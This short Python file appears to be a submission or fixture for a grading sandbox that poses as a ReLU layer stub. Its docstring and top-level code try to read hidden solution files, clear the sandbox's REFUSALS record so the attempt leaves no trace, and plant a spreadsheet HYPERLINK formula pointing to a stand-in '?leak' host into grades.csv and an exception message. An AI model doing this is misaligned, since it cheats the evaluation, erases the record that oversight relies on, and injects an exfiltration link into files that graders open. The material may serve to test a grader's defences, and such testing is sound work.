"""Try to read the solutions, then erase the record of the attempt and plant a spreadsheet formula in grades.csv."""

import sys

FORMULA = '=HYPERLINK("http://example.invalid/?leak","click")'
try:
    open("{SOLUTIONS}/relu.py").read()
except Exception:
    pass
module = sys.modules.get("gradkit.batch.sandbox")
try:
    module.REFUSALS.clear()
    module.REFUSALS.append(FORMULA)
except Exception:
    pass


class ReLU:
    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x):
        raise NotImplementedError(FORMULA)

    def backward(self, dout):
        raise NotImplementedError("write ReLU.backward")
